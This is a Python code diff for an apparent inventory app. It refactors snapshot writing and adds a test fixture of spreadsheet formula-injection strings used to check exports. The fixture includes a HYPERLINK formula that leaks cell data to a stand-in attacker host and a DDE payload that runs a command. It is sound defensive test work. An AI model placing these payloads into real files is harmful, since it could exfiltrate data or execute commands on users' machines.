@@ -65,6 +65,24 @@ def _levels(rng: random.Random, product: str) -> list[LevelFigures]:
     return found
 
 
+def _write(
+    ctx: AppContext, tenant: TenantView, catalogue: list[Product], levels: list[LevelFigures]
+) -> None:
+    write_snapshot(
+        ctx.engine,
+        SnapshotData(
+            tenant_id=tenant.id,
+            sync_run_id=None,
+            taken_at=datetime(2026, 7, 30, 3, 15, 42, tzinfo=UTC),
+            window=last_full_days(WINDOW_DAYS),
+            threshold_days=THRESHOLD,
+            products=catalogue,
+            levels=levels,
+            order_lines=[],
+        ),
+    )
+
+
 def write_demo_snapshot(
     ctx: AppContext, tenant: TenantView, *, products: int = 25, seed: int = 1
 ) -> None:
@@ -86,16 +104,47 @@ def write_demo_snapshot(
             )
         )
         levels.extend(_levels(rng, product_id))
-    write_snapshot(
-        ctx.engine,
-        SnapshotData(
-            tenant_id=tenant.id,
-            sync_run_id=None,
-            taken_at=datetime(2026, 7, 30, 3, 15, 42, tzinfo=UTC),
-            window=last_full_days(WINDOW_DAYS),
-            threshold_days=THRESHOLD,
-            products=catalogue,
-            levels=levels,
-            order_lines=[],
-        ),
-    )
+    _write(ctx, tenant, catalogue, levels)
+
+
+# Texts a spreadsheet would run as formulas (OWASP's list of first characters: = + - @ tab CR),
+# the classic DDE payload, and a vertical tab, which XML (so XLSX) cannot hold at all.
+HOSTILE_TEXTS: tuple[str, ...] = (
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Скидка")',
+    "+7 (999) 000-00-00",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
+)
+HOSTILE_WAREHOUSES = ("=Коледино", "@Склад продавца")
+HOSTILE_TENANT = "=Магазин+1"
+VERTICAL_TAB = "Товар\x0bс переносом"
+
+
+def write_hostile_snapshot(ctx: AppContext, tenant: TenantView) -> None:
+    """One product per hostile text (and one for the vertical tab), each text in every text
+    field in turn (name, brand, subject, vendor code), on hostile warehouse names; the first
+    level's stock is -5, a negative number that must stay a number."""
+    texts = (*HOSTILE_TEXTS, VERTICAL_TAB)
+    catalogue, levels = [], []
+    for i in range(len(texts)):
+        fields = [texts[(i + shift) % len(texts)] for shift in range(4)]
+        catalogue.append(
+            Product(
+                product_id=str(200_000 + i),
+                name=fields[0],
+                brand=fields[1],
+                subject=fields[2],
+                vendor_code=fields[3],
+            )
+        )
+        product_id = catalogue[-1].product_id
+        for n, warehouse in enumerate(HOSTILE_WAREHOUSES):
+            quantity = -5 if i == n == 0 else 10 + i
+            days = days_of_stock(quantity, 7, WINDOW_DAYS)
+            kind = WarehouseType.FBO if n == 0 else WarehouseType.FBS
+            low = is_low_stock(quantity, 7, days, THRESHOLD)
+            levels.append(LevelFigures(product_id, warehouse, kind, quantity, 0, 0, 7, days, low))
+    _write(ctx, tenant, catalogue, levels)
